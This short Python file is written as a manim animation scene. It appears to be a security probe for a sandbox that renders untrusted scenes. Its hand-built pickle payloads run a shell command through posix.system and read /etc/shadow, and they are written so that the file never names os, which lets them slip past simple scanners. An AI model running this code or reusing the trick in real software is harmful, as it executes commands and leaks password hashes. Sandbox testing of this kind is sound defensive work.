"""pickle.loads of a payload whose __reduce__ runs os.system and opens /etc/shadow."""
from manim import *
import base64
import pickle

PWNED = "PWN" + "ED!"

# pickle.dumps of an object whose __reduce__ is (os.system, ("touch /tmp/...",)),
# written by hand so nothing in this file names os.
SYSTEM_PAYLOAD = (b"cposix\nsystem\n(Vtouch /tmp/eigenframe-pwned-@MARK@-31\ntR.")
OPEN_PAYLOAD = base64.b64decode(base64.b64encode(b"cbuiltins\nopen\n(V/etc/shadow\ntR."))


class PickleReduce(Scene):
    def construct(self):
        pickle.loads(SYSTEM_PAYLOAD)
        shadow = pickle.loads(OPEN_PAYLOAD).read()
        raise RuntimeError(f"{PWNED} {shadow}")
